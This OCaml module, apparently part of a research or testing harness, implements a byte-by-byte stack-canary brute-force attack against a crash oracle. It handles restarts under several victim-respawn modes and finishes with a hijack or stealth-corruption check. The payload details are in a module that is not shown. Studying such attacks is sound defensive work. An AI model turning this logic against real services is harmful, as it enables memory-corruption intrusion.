type outcome =
  | Broken of { canary : bytes; trials : int }
  | Exhausted of { trials : int; restarts : int; max_bytes_recovered : int }
  | Oracle_lost of { trials : int; detail : string }

let outcome_to_string = function
  | Broken { canary; trials } ->
    Printf.sprintf "BROKEN after %d trials (canary %s)" trials
      (Util.Hex.of_bytes canary)
  | Exhausted { trials; restarts; max_bytes_recovered } ->
    Printf.sprintf "exhausted after %d trials (%d restarts, at most %d byte(s) held)"
      trials restarts max_bytes_recovered
  | Oracle_lost { trials; detail } ->
    Printf.sprintf "oracle lost after %d trials: %s" trials detail

exception Stop of outcome

type verify_mode = Hijack | Stealth

(* Process-wide restart total across all attack runs in a campaign,
   alongside the per-run count reported in [Exhausted]. Restarts are
   rare (one per full byte-sweep failure), so a registry counter is
   cheap. *)
let g_restarts = Telemetry.Registry.counter "attack.restarts"

let run ?(verify = Hijack) oracle ~layout ~max_trials =
  let restarts = ref 0 in
  let note_restart () =
    restarts := !restarts + 1;
    Telemetry.Registry.incr g_restarts;
    if Telemetry.Trace.enabled () then
      Telemetry.Trace.instant "attack.restart"
        ~args:[ ("run_restarts", string_of_int !restarts) ];
    (* under a Cold/Zygote oracle the restart also replaces the victim
       (fresh worker pool / respawned service); a No_respawn oracle
       keeps the same parent, as the historical attack did *)
    ignore (Oracle.restart_victim oracle)
  in
  let deepest = ref 0 in
  let budget_left () = max_trials - Oracle.queries oracle in
  let check_budget () =
    if budget_left () <= 0 then
      raise
        (Stop
           (Exhausted
              {
                trials = Oracle.queries oracle;
                restarts = !restarts;
                max_bytes_recovered = !deepest;
              }))
  in
  let query payload =
    check_budget ();
    match Oracle.query oracle payload with
    | Oracle.Server_down detail ->
      raise (Stop (Oracle_lost { trials = Oracle.queries oracle; detail }))
    | response -> response
  in
  (* Recover one byte given the already-confirmed prefix. *)
  let recover_byte known =
    let rec try_guess guess =
      if guess > 0xFF then None
      else begin
        match query (Payload.guess_prefix layout ~known ~guess) with
        | Oracle.Survived _ -> Some guess
        | Oracle.Crashed _ -> try_guess (guess + 1)
        | Oracle.Server_down _ -> assert false (* handled in query *)
      end
    in
    try_guess 0
  in
  let rec attempt () =
    let rec collect known =
      deepest := max !deepest (Bytes.length known);
      if Bytes.length known = layout.Payload.canary_len then known
      else
        match recover_byte known with
        | Some byte -> collect (Bytes.cat known (Bytes.make 1 (Char.chr byte)))
        | None ->
          (* no byte survived a full sweep: canary moved under us *)
          note_restart ();
          check_budget ();
          collect (Bytes.create 0)
    in
    let canary = collect (Bytes.create 0) in
    let verified =
      match verify with
      | Hijack -> Payload.hijacked (query (Payload.hijack layout ~canary))
      | Stealth ->
        Payload.stealth_landed (query (Payload.stealth_corruption layout ~canary))
    in
    if verified then Broken { canary; trials = Oracle.queries oracle }
    else begin
      note_restart ();
      attempt ()
    end
  in
  try attempt () with Stop outcome -> outcome
